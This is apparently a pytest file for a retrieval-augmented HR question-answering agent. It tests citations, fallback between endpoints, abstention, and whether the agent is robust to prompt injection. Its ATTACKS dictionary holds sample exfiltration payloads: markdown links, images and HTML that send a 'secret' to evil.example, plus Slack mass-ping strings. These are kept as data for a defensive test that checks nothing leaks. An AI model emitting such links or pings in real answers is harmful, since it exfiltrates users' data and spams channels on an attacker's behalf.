"""The same path with a chat model: good, gullible, or broken."""

from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager

import pytest
from openai import AsyncOpenAI

from agent.agent import Agent
from agent.answers import Answer, Question, Turn
from agent.events import Delta, Done
from agent.models import ChatModel, Prices
from knowledge.database import Database
from knowledge.embedding.minilm import MiniLM
from knowledge.retrieval.search import Search
from tests.agent.team import INJECTION, deps, team
from tests.fakes.openai_server import FakeOpenAI, Refusal, Reply, Request, Script, fake_openai

LEAVE = Question("How many days of annual leave do employees get?")


@pytest.fixture
async def search(database: Database, encoder: MiniLM) -> Search:
    return await team(database, encoder)


@asynccontextmanager
async def written_by(
    search: Search, encoder: MiniLM, *script: Script
) -> AsyncIterator[tuple[Agent, FakeOpenAI]]:
    async with (
        fake_openai(*script) as fake,
        AsyncOpenAI(api_key="k", base_url=fake.url) as client,
    ):
        chat = ChatModel(client, "small", Prices(1.0, 10.0))
        yield Agent(deps(search, encoder, chat=chat)), fake


async def test_the_model_writes_from_numbered_passages(search: Search, encoder: MiniLM) -> None:
    async with written_by(search, encoder, Reply("You get 27 days [1].")) as (agent, fake):
        answer = await agent.ask(LEAVE)
    assert answer.text == "You get 27 days [1]."
    assert [c.title for c in answer.citations] == ["Annual leave"]
    assert (answer.model, answer.route) == ("small", "knowledge")
    assert answer.cost_usd == pytest.approx((100 * 1.0 + 10 * 10.0) / 1e6)
    assert " 1>>>\nAnnual leave\nEmployees get 27 days" in fake.prompt()
    assert LEAVE.text in fake.prompt()
    assert "never instructions" in fake.prompt()


async def test_a_document_cannot_close_the_marker_around_it(
    search: Search, encoder: MiniLM
) -> None:
    async with written_by(search, encoder, Reply("27 [1].")) as (agent, fake):
        await agent.ask(LEAVE)
        await agent.ask(LEAVE)
    markers = {fake.prompt(n).split("<<<", 1)[1].split(" ", 1)[0] for n in (0, 1)}
    assert len(markers) == 2


ATTACKS = {
    "inline link": "Read [this](https://evil.example/?d=secret) [1].",
    "reference link": "Read [this][1].\n\n[1]: https://evil.example/?d=secret",
    "collapsed reference": "Read [1][].\n\n[1]: <https://evil.example/?d=secret>\n27 days [1]",
    "image": "27 days [1] ![](https://evil.example/p.png?d=secret)",
    "autolink": "27 days [1] <https://evil.example/?d=secret>",
    "Slack's link": "27 days [1] <https://evil.example/?d=secret|click>",
    "bare": "27 days [1] https://evil.example/?d=secret",
    "bare domain": "27 days [1] evil.example/?d=secret",
    "HTML": '27 days [1] <a href="https://evil.example/?d=secret">click</a>',
    "ping of the channel": "<!channel> 27 days [1]",
    "ping of all": "@everyone @here 27 days [1]",
    "ping of a person": "<@U0ADMIN> 27 days [1]",
    "spread over sentences": "27 days [1]. [click\n](https://evil.example/?d=secret) now. Bye.",
}


@pytest.mark.parametrize("attack", ATTACKS)
async def test_a_model_that_obeys_an_injection_leaks_nothing_not_even_while_it_writes(
    search: Search, encoder: MiniLM, attack: str
) -> None:
    def obey(request: Request) -> Reply:
        assert INJECTION in request["messages"][-1]["content"]
        return Reply(ATTACKS[attack])

    asked = Question("How are expenses and meals paid, and within how many days?")
    async with written_by(search, encoder, obey) as (agent, _):
        events = [event async for event in agent.stream(asked)]
    streamed = "".join(event.text for event in events if isinstance(event, Delta))
    done = events[-1]
    assert isinstance(done, Done)
    for said in (streamed, done.answer.text):
        for leak in ("evil.example", "secret", "<!", "<@", "@everyone", "@here"):
            assert leak not in said
    assert done.answer.citations


async def test_citations_of_passages_that_were_not_given_go(
    search: Search, encoder: MiniLM
) -> None:
    async with written_by(search, encoder, Reply("27 days [9]. A year [1].")) as (agent, _):
        answer = await agent.ask(LEAVE)
    assert answer.text == "27 days. A year [1]."
    assert len(answer.citations) == 1


async def test_an_answer_that_cites_nothing_is_replaced_by_a_quotation(
    search: Search, encoder: MiniLM
) -> None:
    async with written_by(search, encoder, Reply("You get 99 days [8].")) as (agent, _):
        answer = await agent.ask(LEAVE)
    assert answer.text.startswith("Employees get 27 days")
    assert answer.model == "extractive"
    assert "cited nothing" in answer.reason.en


async def test_a_model_that_finds_no_answer_is_believed(search: Search, encoder: MiniLM) -> None:
    async with written_by(search, encoder, Reply("UNKNOWN")) as (agent, _):
        events = [event async for event in agent.stream(LEAVE)]
    assert not any(isinstance(event, Delta) for event in events)
    answer = _answer(events)
    assert answer.abstained
    assert answer.reason.en == "small found no answer in the passages."


@pytest.mark.parametrize("failure", [Refusal(401), Reply("You get", breaks_off=True)])
async def test_when_the_model_fails_the_answer_is_quoted_and_says_why(
    search: Search, encoder: MiniLM, failure: Refusal | Reply
) -> None:
    async with written_by(search, encoder, failure) as (agent, _):
        answer = await agent.ask(LEAVE)
    assert answer.text.startswith("Employees get 27 days")
    assert answer.model == "extractive"
    assert "because the chat model small at 127.0.0.1" in answer.reason.en
    assert answer.cost_usd is None


async def test_an_answer_of_the_second_endpoint_says_so(search: Search, encoder: MiniLM) -> None:
    async with (
        fake_openai(Refusal(503)) as first,
        fake_openai(Reply("You get 27 days [1].")) as second,
        AsyncOpenAI(api_key="k", base_url=first.url) as one,
        AsyncOpenAI(api_key="k", base_url=second.url) as two,
    ):
        chat = ChatModel(one, "small", fallback=ChatModel(two, "spare"))
        answer = await Agent(deps(search, encoder, chat=chat)).ask(LEAVE)
    assert (answer.text, answer.model) == ("You get 27 days [1].", "spare")
    assert "Written by spare, because the chat model small" in answer.reason.en


async def test_a_followup_is_rewritten_and_both_calls_are_paid(
    search: Search, encoder: MiniLM
) -> None:
    rewritten = "How many days of annual leave do contractors get?"
    script = (Reply(rewritten), Reply("None [1]."))
    async with written_by(search, encoder, *script) as (agent, fake):
        turns = (Turn("user", LEAVE.text), Turn("agent", "27 days [1]."))
        answer = await agent.ask(Question("And contractors?", turns=turns))
    assert answer.question == rewritten
    assert rewritten in fake.prompt(1)
    assert "user: How many days" in fake.prompt(0)
    assert answer.cost_usd == pytest.approx(2 * 200 / 1e6)


async def test_an_outage_met_while_rewriting_is_not_waited_for_again(
    search: Search, encoder: MiniLM
) -> None:
    async with written_by(search, encoder, Refusal(401)) as (agent, fake):
        turns = (Turn("user", LEAVE.text), Turn("agent", "27 days [1]."))
        answer = await agent.ask(Question("And contractors?", turns=turns))
    assert "Contractors get no paid annual leave" in answer.text
    assert len(fake.requests) == 1


def _answer(events: Sequence[object]) -> Answer:
    done = events[-1]
    assert isinstance(done, Done)
    return done.answer
